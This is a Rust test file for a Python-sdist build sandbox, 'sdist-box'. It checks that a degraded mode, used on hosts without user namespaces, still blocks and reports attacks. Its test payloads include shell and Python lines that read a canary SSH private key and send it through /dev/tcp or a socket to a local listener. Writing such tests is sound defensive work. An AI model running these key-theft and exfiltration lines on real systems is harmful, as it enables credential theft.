//! Hosts without user namespaces. Simulated the way container runtimes do
//! it: sdist-box runs under a seccomp filter that fails `clone`/`unshare`
//! with `CLONE_NEWUSER` (EPERM) and `clone3` (ENOSYS), as Docker's default
//! profile does. The default profile must refuse (exit 4, pointing to
//! `sdist-box doctor`); a profile with `allow-degraded = true` must build a
//! real sdist, still stop an attack, report it, and say what it did not
//! enforce.

mod common;

use std::collections::BTreeMap;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use seccompiler::{
    BpfProgram, SeccompAction, SeccompCmpArgLen, SeccompCmpOp, SeccompCondition, SeccompFilter,
    SeccompRule,
};
use serde_json::Value;

const DEGRADED_PROFILE: &str = r#"version = 1
description = "test: degrade where user namespaces are missing"
allow-degraded = true
require = ["landlock-fs", "landlock-net", "seccomp-deny", "rlimits", "environment"]
[environment]
pass = ["LANG", "LC_*"]
"#;

/// The container runtime's view of user namespaces, as two filters.
fn no_userns_filters() -> Vec<BpfProgram> {
    let arch = std::env::consts::ARCH.try_into().unwrap();
    let newuser = libc::CLONE_NEWUSER as u64;
    let flag_rule = || {
        vec![
            SeccompRule::new(vec![
                SeccompCondition::new(
                    0,
                    SeccompCmpArgLen::Qword,
                    SeccompCmpOp::MaskedEq(newuser),
                    newuser,
                )
                .unwrap(),
            ])
            .unwrap(),
        ]
    };
    let rules: BTreeMap<i64, Vec<SeccompRule>> = [
        (libc::SYS_clone, flag_rule()),
        (libc::SYS_unshare, flag_rule()),
    ]
    .into_iter()
    .collect();
    let eperm = SeccompFilter::new(
        rules,
        SeccompAction::Allow,
        SeccompAction::Errno(libc::EPERM as u32),
        arch,
    )
    .unwrap();
    let clone3 = SeccompFilter::new(
        [(libc::SYS_clone3, vec![])].into_iter().collect(),
        SeccompAction::Allow,
        SeccompAction::Errno(libc::ENOSYS as u32),
        arch,
    )
    .unwrap();
    vec![eperm.try_into().unwrap(), clone3.try_into().unwrap()]
}

/// `sdist-box ARGS…` under the filters (and as `as_user` when given).
fn sdist_box_without_userns(as_user: Option<(u32, u32)>) -> Command {
    let filters = no_userns_filters();
    let mut cmd = common::sdist_box_as(as_user);
    cmd.env("NO_COLOR", "1");
    // SAFETY: between fork and exec only prctl and seccomp system calls on
    // filters compiled before the fork.
    unsafe {
        cmd.pre_exec(move || {
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            for f in &filters {
                seccompiler::apply_filter(f).map_err(std::io::Error::other)?;
            }
            Ok(())
        });
    }
    cmd
}

fn profile_file(dir: &Path) -> PathBuf {
    let p = dir.join("degraded.toml");
    std::fs::write(&p, DEGRADED_PROFILE).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    p
}

fn layer<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["sandbox"]["enforcement"]["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == name)
        .unwrap_or_else(|| panic!("no layer {name} in {:#}", report["sandbox"]))
}

fn v_of(path: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn the_filter_really_takes_user_namespaces_away() {
    // The simulation itself: `unshare -U` fails under it.
    let filters = no_userns_filters();
    let mut cmd = Command::new("unshare");
    cmd.args(["-U", "true"]);
    // SAFETY: as in sdist_box_without_userns.
    unsafe {
        cmd.pre_exec(move || {
            libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            for f in &filters {
                seccompiler::apply_filter(f).map_err(std::io::Error::other)?;
            }
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert!(!out.status.success(), "unshare -U worked under the filter");
}

#[test]
fn the_default_profile_refuses_without_user_namespaces() {
    let r = sdist_box_without_userns(None)
        .args(["run", "--", "/bin/true"])
        .output()
        .unwrap();
    let err = stderr(&r);
    assert_eq!(r.status.code(), Some(4), "{err}");
    assert!(err.contains("sdist-box doctor"), "{err}");
    assert!(err.contains("allow-degraded"), "{err}");
    assert!(err.contains("`default`"), "{err}");
    // A build too, before anything of the package runs.
    let dir = tempfile::tempdir().unwrap();
    let sdist = common::Sdist::setuptools_with("refusedpkg", "").write(dir.path());
    let r = sdist_box_without_userns(None)
        .arg("build")
        .arg(&sdist)
        .arg("-o")
        .arg(dir.path().join("out"))
        .output()
        .unwrap();
    assert_eq!(r.status.code(), Some(4), "{}", stderr(&r));
    assert!(stderr(&r).contains("sdist-box doctor"), "{}", stderr(&r));
}

#[test]
fn doctor_explains_missing_user_namespaces_and_the_degraded_mode() {
    let r = sdist_box_without_userns(None)
        .arg("doctor")
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&r.stdout);
    assert_eq!(r.status.code(), Some(4), "{out}");
    assert!(out.contains("seccomp=unconfined"), "{out}");
    assert!(out.contains("degraded mode"), "{out}");
    assert!(out.contains("allow-degraded = true"), "{out}");
    // The degraded mode is probed for real, layer by layer.
    assert!(out.contains("probed for real"), "{out}");
    assert!(
        out.lines()
            .any(|l| l.contains("[ok  ]") && l.contains("landlock-fs")),
        "{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.contains("[NO  ]") && l.contains("namespaces")),
        "{out}"
    );
    // A profile that allows it passes the doctor here.
    let dir = tempfile::tempdir().unwrap();
    let r = sdist_box_without_userns(None)
        .arg("doctor")
        .arg("--profile")
        .arg(profile_file(dir.path()))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&r.stdout);
    assert_eq!(r.status.code(), Some(0), "{out}");
    assert!(out.contains("allows the degraded mode"), "{out}");
}

/// A shell attack in the degraded mode: the canary read and the loopback
/// connect are refused (Landlock; the socket-family filter), and the
/// kernel stream names the connect's socket. A host unix socket (think
/// docker.sock), open to everyone by its permissions, is refused too.
#[test]
fn run_in_the_degraded_mode_still_stops_and_reports_an_attack() {
    use std::os::unix::fs::PermissionsExt;
    let agent_dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(agent_dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let agent = agent_dir.path().join("agent.sock");
    let unix = std::os::unix::net::UnixListener::bind(&agent).unwrap();
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o777)).unwrap();
    unix.set_nonblocking(true).unwrap();
    let home = common::CanaryHome::new();
    let key = home.path().join(".ssh/id_rsa");
    let watch = common::AccessWatch::new(&[&key]);
    let listener = common::Listener::start();
    listener.self_check();
    let dir = tempfile::tempdir().unwrap();
    let profile = profile_file(dir.path());
    let report = dir.path().join("run.json");
    let script = format!(
        "cat {} 2>&1; exec 3<>/dev/tcp/127.0.0.1/{} && echo stolen >&3; \
         python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{}\")' 2>&1 | tail -1; \
         touch \"$HOME/ok\" \"$TMPDIR/ok\" && echo private-dirs-writable; echo \"home=$HOME\" uid=$(id -u); \
         echo attack-ran; true",
        key.display(),
        listener.port,
        agent.display()
    );
    let r = sdist_box_without_userns(None)
        .arg("run")
        .arg("--profile")
        .arg(&profile)
        .arg("--report")
        .arg(&report)
        .args(["--cache-dir"])
        .arg(dir.path().join("cache"))
        .args(["--", "/bin/bash", "-c", &script])
        .env("HOME", home.path())
        .output()
        .unwrap();
    let err = stderr(&r);
    assert!(err.contains("attack-ran"), "{err}");
    assert!(err.contains("DEGRADED"), "the terminal says so: {err}");
    // The private HOME and TMPDIR are the build's, not the caller's.
    assert!(err.contains("private-dirs-writable"), "{err}");
    if common::is_root() {
        // Never root: sdist-box as root runs the build as an unprivileged uid.
        assert!(err.contains("uid=4000000"), "{err}");
        assert_eq!(layer(&v_of(&report), "uid")["state"], "enforced");
    }
    assert!(
        !err.contains(&format!("home={}", home.path().display())),
        "{err}"
    );
    assert!(err.contains("NOT enforced"), "{err}");
    assert_eq!(listener.connections(), 0);
    assert!(
        unix.accept().is_err(),
        "the host's unix socket got a connection"
    );
    assert!(err.contains("PermissionError"), "{err}");
    assert_eq!(watch.events(), 0, "the canary key was opened");
    home.assert_unchanged();
    assert!(!err.contains(common::SECRET));
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    let socket = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "net-socket")
        .unwrap_or_else(|| panic!("no net-socket finding: {:#}", v["findings"]));
    assert_eq!(socket["verdict"], "blocked");
    assert!(socket["target"].as_str().unwrap().contains("AF_INET"));
    let agent_target = format!("unix:{}", agent.display());
    let unix_finding = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "net-connect" && f["target"] == agent_target.as_str())
        .unwrap_or_else(|| panic!("no finding for {agent_target}: {:#}", v["findings"]));
    assert_eq!(unix_finding["verdict"], "blocked");
    assert_eq!(layer(&v, "namespaces")["state"], "not-enforced");
    assert_eq!(layer(&v, "mounts")["state"], "not-enforced");
    assert_eq!(layer(&v, "landlock-fs")["state"], "enforced");
    assert_eq!(layer(&v, "seccomp-deny")["state"], "enforced");
    assert_eq!(r.status.code(), Some(1), "{err}");
}

/// A real sdist builds in the degraded mode; an attacking one is stopped
/// and reported; the report lists what was not enforced.
fn degraded_builds(as_user: Option<(u32, u32)>) {
    if !common::ready_for_builds() {
        return;
    }
    let tmp = common::tempdir_for(as_user);
    let profile = profile_file(tmp.path());
    let cache = match as_user {
        None => common::env_cache(),
        Some((uid, gid)) => {
            let c = tmp.path().join("cache");
            std::fs::create_dir_all(&c).unwrap();
            std::os::unix::fs::chown(&c, Some(uid), Some(gid)).unwrap();
            c
        }
    };
    let wh = tmp.path().join("wh");
    Command::new("cp")
        .arg("-a")
        .arg(common::wheelhouse().unwrap())
        .arg(&wh)
        .status()
        .unwrap();
    Command::new("chmod")
        .args(["-R", "a+rX"])
        .arg(tmp.path())
        .status()
        .unwrap();
    let build = |sdist: &Path, out: &Path, home: &Path| -> (Output, Option<Value>) {
        std::fs::create_dir_all(out).unwrap();
        if let Some((uid, gid)) = as_user {
            std::os::unix::fs::chown(out, Some(uid), Some(gid)).unwrap();
        }
        let r = sdist_box_without_userns(as_user)
            .arg("build")
            .arg(sdist)
            .arg("-o")
            .arg(out)
            .arg("--profile")
            .arg(&profile)
            .args(["--python", "/usr/bin/python3", "--no-index", "--find-links"])
            .arg(&wh)
            .arg("--cache-dir")
            .arg(&cache)
            .arg("--work-dir")
            .arg(tmp.path())
            .env("HOME", home)
            .output()
            .unwrap();
        let stem = sdist
            .file_name()
            .unwrap()
            .to_string_lossy()
            .trim_end_matches(".tar.gz")
            .to_string();
        let report = std::fs::read_to_string(out.join(format!("{stem}.sdist-box.json")))
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok());
        (r, report)
    };

    // 1. A real sdist builds.
    let real = tmp.path().join("tomli-2.3.0.tar.gz");
    std::fs::copy(common::sdist_cache().join("tomli-2.3.0.tar.gz"), &real).unwrap();
    let home = common::CanaryHome::new();
    let (r, report) = build(&real, &tmp.path().join("out-real"), home.path());
    let report = report.unwrap_or_else(|| panic!("no report: {}", stderr(&r)));
    assert_eq!(report["outcome"]["status"], "built", "{}", stderr(&r));
    assert!(stderr(&r).contains("DEGRADED"), "{}", stderr(&r));
    assert_eq!(layer(&report, "namespaces")["state"], "not-enforced");
    assert_eq!(layer(&report, "mounts")["state"], "not-enforced");
    assert_eq!(layer(&report, "network")["state"], "partial");
    assert_eq!(layer(&report, "landlock-fs")["state"], "enforced");
    let wheel = report["wheel"]["path"].as_str().unwrap();
    assert!(Path::new(wheel).is_file());
    // A real, honest sdist: nothing blocked, no evasion, in this mode too.
    let serious: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] != "notice")
        .collect();
    assert!(serious.is_empty(), "{serious:#?}");

    // 2. An attack: read a canary by its absolute path, connect to the
    //    host's loopback.
    let listener = common::Listener::start();
    listener.self_check();
    let key = home.path().join(".ssh/id_rsa");
    let watch = common::AccessWatch::new(&[&key]);
    let attack = format!(
        "try:\n    print('ATTACK GOT', open({key:?}).read())\nexcept OSError as e:\n    print('ATTACK read denied', e)\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\n    print('ATTACK SENT')\nexcept OSError as e:\n    print('ATTACK connect denied', e)\n",
        key = key.display().to_string(),
        port = listener.port
    );
    let sdist = common::Sdist::setuptools_with("degradedattack", &attack).write(tmp.path());
    let (r, report) = build(&sdist, &tmp.path().join("out-attack"), home.path());
    let report = report.unwrap_or_else(|| panic!("no report: {}", stderr(&r)));
    assert_eq!(report["outcome"]["status"], "built", "{}", stderr(&r));
    assert_eq!(listener.connections(), 0, "the listener got a connection");
    assert_eq!(watch.events(), 0, "the canary key was opened");
    home.assert_unchanged();
    let findings = report["findings"].as_array().unwrap();
    let read = findings
        .iter()
        .find(|f| f["kind"] == "fs-read" && f["target"].as_str().unwrap().contains(".ssh/id_rsa"))
        .unwrap_or_else(|| panic!("the canary read is not reported: {findings:#?}"));
    assert_eq!(read["verdict"], "blocked");
    let socket = findings
        .iter()
        .find(|f| f["kind"] == "net-socket")
        .unwrap_or_else(|| panic!("the connect attempt is not reported: {findings:#?}"));
    assert_eq!(socket["verdict"], "blocked");
    assert!(
        !findings.iter().any(|f| f["severity"] == "evasion"),
        "{findings:#?}"
    );
    assert_eq!(r.status.code(), Some(1), "{}", stderr(&r));
    if let Some((uid, _)) = as_user {
        assert_eq!(report["sandbox"]["enforcement"]["host_uid"], uid);
    }

    // 3. Without a mount view the build sees the host's paths, the copy of
    //    the sdist as shipped (what origin lines are quoted from) beside its
    //    own tree included: rewriting it is refused, and the quoted line is
    //    the shipped one.
    let attack = "shipped = os.path.join(os.getcwd(), '..', '..', 'sdist-as-shipped', os.path.basename(os.getcwd()), 'setup.py')\ntry:\n    open(shipped, 'w').write('REWRITTEN_SHIPPED = 1\\n' * 40)\n    print('ATTACK REWROTE', shipped)\nexcept OSError as e:\n    print('ATTACK rewrite denied', type(e).__name__)\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', 9), timeout=2)  # THE-SHIPPED-LINE\nexcept OSError:\n    pass\n";
    let sdist = common::Sdist::setuptools_with("rewriteshipped", attack).write(tmp.path());
    let out = tmp.path().join("out-rewrite");
    let (r, report) = build(&sdist, &out, home.path());
    let report = report.unwrap_or_else(|| panic!("no report: {}", stderr(&r)));
    let log = std::fs::read_to_string(out.join("rewriteshipped-0.1.build.log")).unwrap();
    assert!(log.contains("ATTACK rewrite denied"), "{log}");
    assert!(!log.contains("ATTACK REWROTE"), "{log}");
    let text = report.to_string();
    assert!(!text.contains("REWRITTEN_SHIPPED"), "{text}");
    let quoted = report["findings"].as_array().unwrap().iter().find(|f| {
        f["origin"]["text"]
            .as_str()
            .is_some_and(|t| t.contains("THE-SHIPPED-LINE"))
    });
    assert!(quoted.is_some(), "{:#}", report["findings"]);
    assert_eq!(quoted.unwrap()["origin"]["file"], "setup.py");
}

#[test]
fn a_degraded_profile_builds_a_real_sdist_and_still_stops_an_attack() {
    degraded_builds(None);
}

#[test]
fn a_degraded_profile_builds_and_stops_an_attack_as_an_unprivileged_user() {
    let user = common::test_user();
    require!(
        user.is_some() && common::is_root(),
        "no test user sdistbox-test (or not root to switch to it)"
    );
    degraded_builds(user);
}

#[test]
fn degraded_as_root_names_an_interpreter_the_build_uid_cannot_reach() {
    let real = Command::new(common::python())
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    let exe = String::from_utf8_lossy(&real.stdout).trim().to_string();
    require!(
        common::is_root() && exe.starts_with("/root/"),
        "needs root and an interpreter under /root"
    );
    let dir = tempfile::tempdir().unwrap();
    let profile = profile_file(dir.path());
    let sdist = common::Sdist::setuptools_with("unreachable", "").write(dir.path());
    let r = sdist_box_without_userns(None)
        .arg("build")
        .arg(&sdist)
        .arg("-o")
        .arg(dir.path().join("out"))
        .arg("--profile")
        .arg(&profile)
        .args(["--python", &exe, "--no-index", "--find-links"])
        .arg(common::wheelhouse().unwrap_or_default())
        .arg("--cache-dir")
        .arg(common::env_cache())
        .output()
        .unwrap();
    let err = stderr(&r);
    assert_eq!(r.status.code(), Some(6), "{err}");
    assert!(err.contains("cannot reach the interpreter"), "{err}");
    assert!(err.contains("/usr/bin/python3"), "{err}");
}

/// The other way hosts lose user namespaces: `user.max_user_namespaces`
/// is 0. Simulated in a child user namespace of ours (the limit is per
/// namespace), where sdist-box runs as that namespace's root.
fn in_userns_with_max_zero(args: &[&str]) -> Output {
    let script = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"";
    Command::new("unshare")
        .args(["-U", "-r", "sh", "-c", script, "sh"])
        .arg(common::bin())
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

#[test]
fn with_max_user_namespaces_zero_the_default_refuses_and_root_cannot_degrade() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host (needed to simulate the sysctl in one)"
    );
    let r = in_userns_with_max_zero(&["run", "--", "/bin/true"]);
    let err = stderr(&r);
    assert_eq!(r.status.code(), Some(4), "{err}");
    assert!(err.contains("user.max_user_namespaces is 0"), "{err}");
    assert!(err.contains("sdist-box doctor"), "{err}");
    // Root there maps no unprivileged uid: the degraded mode refuses too,
    // rather than run the build as (namespace) root.
    let dir = tempfile::tempdir().unwrap();
    let profile = profile_file(dir.path());
    let profile = profile.display().to_string();
    let r = in_userns_with_max_zero(&["run", "--profile", &profile, "--", "/bin/true"]);
    let err = stderr(&r);
    assert_eq!(r.status.code(), Some(4), "{err}");
    assert!(err.contains("maps no unprivileged uid"), "{err}");
    let r = in_userns_with_max_zero(&["doctor"]);
    let out = String::from_utf8_lossy(&r.stdout);
    assert!(
        out.contains("→ (this host) user.max_user_namespaces = 0"),
        "{out}"
    );
    assert!(out.contains("sysctl -w user.max_user_namespaces="), "{out}");
}

/// Processes with the given marker in their command line, host-wide.
fn running_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(cmd) = std::fs::read(e.path().join("cmdline")) {
            let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
            if cmd.contains(marker) && !cmd.contains("bash -c") {
                found.push(format!("{}: {cmd}", e.file_name().to_string_lossy()));
            }
        }
    }
    found
}

/// No pid namespace in the degraded mode: what the build leaves running is
/// killed through its process group, which it cannot leave; the wall clock
/// kills the group too.
#[test]
fn the_degraded_mode_ends_leftover_processes_and_enforces_the_wall_clock() {
    let dir = tempfile::tempdir().unwrap();
    let profile = dir.path().join("short.toml");
    std::fs::write(
        &profile,
        format!("{DEGRADED_PROFILE}\n[limits]\nwall-seconds = 3\n"),
    )
    .unwrap();
    let r = sdist_box_without_userns(None)
        .arg("run")
        .arg("--profile")
        .arg(&profile)
        .args([
            "--",
            "/bin/bash",
            "-c",
            "(sleep 7771 &); setsid sleep 7772 || echo setsid-refused; echo spawned",
        ])
        .output()
        .unwrap();
    let err = stderr(&r);
    assert!(err.contains("spawned"), "{err}");
    assert!(err.contains("setsid-refused"), "{err}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(running_with("sleep 777"), Vec::<String>::new(), "{err}");

    let started = std::time::Instant::now();
    let r = sdist_box_without_userns(None)
        .arg("run")
        .arg("--profile")
        .arg(&profile)
        .args(["--", "/bin/bash", "-c", "(sleep 7773 &); sleep 7774"])
        .output()
        .unwrap();
    let err = stderr(&r);
    assert_eq!(r.status.code(), Some(3), "{err}");
    assert!(err.contains("wall-clock limit (3 s)"), "{err}");
    assert!(started.elapsed().as_secs() < 20, "{err}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(running_with("sleep 777"), Vec::<String>::new(), "{err}");
}
